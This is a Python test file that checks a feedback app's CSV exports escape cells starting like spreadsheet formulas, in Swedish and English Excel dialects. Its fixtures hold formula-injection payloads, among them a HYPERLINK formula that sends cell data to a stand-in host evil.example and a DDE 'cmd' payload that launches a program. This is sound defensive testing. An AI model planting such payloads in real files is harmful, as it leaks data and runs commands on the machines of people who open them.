"""CSV exports open in a spreadsheet without running anything: a text cell that starts like a
formula (= + - @, tab, CR) gets a leading ', in Swedish Excel's dialect and in the English one;
numbers we write as numbers stay numbers, negative ones too."""
from __future__ import annotations

import csv
import io

import pytest

from rollout.services import feedback, people, questionnaires, waves
from rollout.services.exports import spreadsheet_safe

from . import builders
from .builders import wave_tokens

KEY = "csv-2027"
NAME = '=HYPERLINK("http://evil.example/?q="&A1,"Anna")'
ANSWERS = {"went_well": "-1+2", "could_be_better": "=cmd|' /C calc'!A0", "celebrate": "@SUM(A1:A9)"}
DIALECTS = [("", ";", "-1,5"), ("?excel=en", ",", "-1.5")]


def rows_of(client, key: str, query: str, delimiter: str) -> tuple[list[str], list[list[str]]]:
    response = client.get(f"/rollouts/{key}/export/responses.csv{query}")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8")[1:]), delimiter=delimiter))
    return rows[0], rows[1:]


@pytest.fixture
def named(ctx, lead):
    """A named rollout: a person whose name and unit start like formulas answers such texts,
    and a negative number to a question that allows one."""
    people.upsert_people([{"external_id": "anna", "name": NAME, "email": "anna@example.se",
                           "unit": "-Enhet", "attributes": {}},
                          {"external_id": "p2", "name": "Per Plain", "email": "per@example.se",
                           "unit": "-Enhet", "attributes": {}}], None)
    rollout = builders.make_rollout(KEY, lead=lead)
    items = questionnaires.as_data(questionnaires.current(rollout))["questions"]
    items.append({"code": "balance", "kind": "number", "required": False, "min": -10, "max": 10,
                  "prompt": {"sv": "Vinst eller förlust i timmar?", "en": "Hours won or lost?"}})
    questionnaires.save(rollout, items, lead)
    wave = builders.make_wave(rollout, lead, units=["-Enhet"])
    waves.transition(wave, "active", lead)
    waves.transition(wave, "feedback", lead)
    tokens = wave_tokens(wave)
    feedback.submit(tokens["anna"], {"satisfaction": 4, "worked_day_one": "no", **ANSWERS, "balance": -1.5})
    feedback.submit(tokens["p2"], {"satisfaction": 5, "worked_day_one": "yes", "went_well": "Allt gick bra",
                                   "balance": 2})
    return rollout, wave


@pytest.mark.parametrize(("query", "delimiter", "negative"), DIALECTS)
def test_formula_like_texts_and_names_are_quoted_and_numbers_stay_numbers(client, auth, named, query, delimiter,
                                                                         negative):
    auth.login()
    header, body = rows_of(client, KEY, query, delimiter)
    [anna] = [row for row in body if row[header.index("external_id")] == "anna"]
    assert anna[header.index("name")] == "'" + NAME and anna[header.index("unit")] == "'-Enhet"
    for code, text in ANSWERS.items():
        assert anna[header.index(code)] == "'" + text
    assert anna[header.index("balance")] == negative  # ours, a number: no quote
    assert anna[header.index("satisfaction")] == "4" and anna[header.index("wave")] == "0"
    [per] = [row for row in body if row[header.index("external_id")] == "p2"]
    assert per[header.index("name")] == "Per Plain" and per[header.index("went_well")] == "Allt gick bra"
    assert per[header.index("balance")] == "2"
    # no cell anywhere starts a formula
    assert not [cell for row in [header, *body] for cell in row if cell[:1] in ("=", "+", "@", "\t", "\r")]


@pytest.mark.parametrize(("query", "delimiter", "negative"), DIALECTS)
def test_an_anonymous_rollouts_answers_are_quoted_too(client, auth, ctx, lead, query, delimiter, negative):
    builders.make_people(5, prefix="an")
    rollout = builders.make_rollout("anon-2027", lead=lead, anonymous=True)
    wave = builders.make_wave(rollout, lead, percentage=100)
    waves.transition(wave, "active", lead)
    waves.transition(wave, "feedback", lead)
    for token in wave_tokens(wave).values():  # five: the anonymity threshold, so the answers are shown
        feedback.submit(token, {"satisfaction": 3, "worked_day_one": "yes", "went_well": "+1 bra",
                                "could_be_better": "-"})
    auth.login()
    header, body = rows_of(client, "anon-2027", query, delimiter)
    assert len(body) == 5
    assert {(row[header.index("went_well")], row[header.index("could_be_better")]) for row in body} == {
        ("'+1 bra", "'-")}


@pytest.mark.parametrize(("text", "safe"), [
    ("=1+1", "'=1+1"), ("+46 70", "'+46 70"), ("-1+2", "'-1+2"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tdolt", "'\tdolt"), ("\r=1", "'\r=1"), ("Bra", "Bra"), (" =1", " =1"), ("1-2", "1-2"), ("", ""),
])
def test_spreadsheet_safe(text, safe):
    assert spreadsheet_safe(text) == safe
